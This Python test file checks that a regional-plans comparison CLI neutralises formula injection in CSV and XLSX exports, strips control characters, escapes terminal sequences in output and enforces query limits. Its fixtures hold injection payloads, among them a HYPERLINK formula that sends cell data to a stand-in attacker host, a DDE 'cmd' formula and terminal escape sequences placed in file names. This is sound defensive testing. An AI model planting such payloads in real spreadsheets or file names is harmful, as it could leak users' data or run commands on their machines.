"""Hostile text on its way out: formulas and control characters in exports, terminal
escapes in CLI tables, queries and filters over the limits (refused before anything loads)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from regionplans.cli import cli
from regionplans.compare import export
from regionplans.compare.table import Cell, ComparisonTable, Evidence
from regionplans.config import Limits, Settings
from regionplans.errors import ConfigError, LimitError
from regionplans.output import FORMATS, printable, render
from regionplans.records import SearchFilters

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A2,"Klicka här")', "=1+1", "+SUM(A1:A9)",
            "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")  # fmt: skip
CONTROLS = "Region\x00 Skåne\x08 satsar\x1b[31m på\x0b genomik\x7f."


def hostile_table() -> ComparisonTable:
    evidence = tuple(
        Evidence(quote=f, doc_id="d1", doc_name="plan.txt", title=FORMULAS[0], heading_path=("=2*3",),
                 page_number=1, date=None, source_url="=1+1", file_path="=1+1", secondary=False,
                 score=1.0, publisher="@Region")  # fmt: skip
        for f in (*FORMULAS[2:], CONTROLS)
    )
    cell = Cell("Region Skåne", "region", "=topic", "plan", ("-ska",), evidence, ("+2030",), ("=100 kr",),
                0.5, None, 1)  # fmt: skip
    return ComparisonTable(topic="=topic", aspects=(), rows=(("Region Skåne", "region"),), cells=(cell,),
                           provenance={"topic": "=topic", "note": "a\x00b"})  # fmt: skip


def test_csv_export_has_no_live_formula_and_no_control_character() -> None:
    text = export.to_csv(hostile_table())
    assert not any(ch in text for ch in "\x00\x08\x0b\x1b\x7f")
    body = "".join(line for line in text.splitlines(keepends=True) if not line.startswith("# "))
    for row in csv.reader(io.StringIO(body)):
        for value in row:
            assert not value.lstrip(" ").startswith(export.FORMULA_START), value
    assert "'=HYPERLINK(" in text and "'=1+1" in text and "'@Region" in text and "'-2+3" in text


def test_xlsx_export_has_only_string_cells_with_the_text_unchanged(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = export.write_xlsx(hostile_table(), tmp_path / "t.xlsx")  # no IllegalCharacterError
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and not any(c.data_type == "f" for c in cells)
    texts = {c.value for c in cells}
    assert FORMULAS[0] in texts and "=1+1" in texts and "=cmd|' /C calc'!A0" in texts  # unchanged
    assert "Region Skåne satsar[31m på genomik." in texts
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and export.risky(c.value))


def test_markdown_export_has_no_control_character() -> None:
    text = export.to_md(hostile_table())
    assert not any(ch in text for ch in "\x00\x08\x0b\x1b\x7f")


@pytest.mark.parametrize("fmt", FORMATS)
def test_terminal_escapes_never_reach_the_terminal(fmt: str) -> None:
    name = "plan\x1b]0;pwned\x07\x1b[31mröd\u202etxt.pdf"
    out = render([{"file": name, "status": "failed", "reason": "bad\x9b2J"}], fmt, ["file", "status", "reason"])
    assert not any(ch in out for ch in "\x1b\x07\x9b\u202e"), out
    if fmt != "json" and fmt != "jsonl":
        assert "\\x1b]0;pwned\\x07" in out


def test_printable_keeps_text_and_line_breaks() -> None:
    assert printable("Örebro\tläns\nregion") == "Örebro\tläns\nregion"


def test_cli_prints_a_file_name_with_escapes_harmlessly(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "plan\x1b]0;pwned\x07\x1b[31m.txt").write_text("Region Gotland\n\nGotland satsar på genomik.\n")
    (corpus / "tom\x1b[2J.txt").write_bytes(b"")
    result = CliRunner().invoke(cli, ["ingest", str(corpus), "--data-dir", str(tmp_path / "d")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b[2J" in result.output


def test_search_refuses_over_the_limits_before_loading_anything(tmp_path: Path) -> None:
    from regionplans.index.search import Searcher

    searcher = Searcher(Settings(data_dir=tmp_path / "none", qdrant_url=None))  # no index there
    with pytest.raises(LimitError, match="REGIONPLANS_MAX_QUERY_CHARS"):
        searcher.search("genomik " * 200)
    with pytest.raises(LimitError, match="REGIONPLANS_MAX_FILTER_VALUES"):
        searcher.search("genomik", filters=SearchFilters(publishers=tuple(f"p{i}" for i in range(51))))
    with pytest.raises(LimitError, match="REGIONPLANS_MAX_HITS"):
        searcher.search("genomik", limit=10**30)
    with pytest.raises(ConfigError, match="must be text"):
        searcher.search(None)  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match="whole number"):
        searcher.search("genomik", limit=0)


@pytest.mark.parametrize(
    "args",
    [["search", "x" * 1001], ["search", "genomik", "--limit", "101"],
     ["compare", "y" * 1001], ["compare", "GMS", *sum((["--aspects", f"a{i}"] for i in range(21)), [])],
     ["compare", "GMS", *sum((["--regions", "Skåne"] for _ in range(51)), [])]],
)  # fmt: skip
def test_cli_refuses_over_the_limits_in_one_line(tmp_path: Path, args: list[str]) -> None:
    result = CliRunner().invoke(cli, [*args, "--data-dir", str(tmp_path)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "more than the limit" in result.output and "REGIONPLANS_MAX_" in result.output


def test_limits_follow_the_environment(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["search", "x" * 30, "--data-dir", str(tmp_path)],
                                env={"REGIONPLANS_MAX_QUERY_CHARS": "20"})  # fmt: skip
    assert "limit of 20" in result.output
    assert Limits(max_query_chars=20).max_query_chars == 20
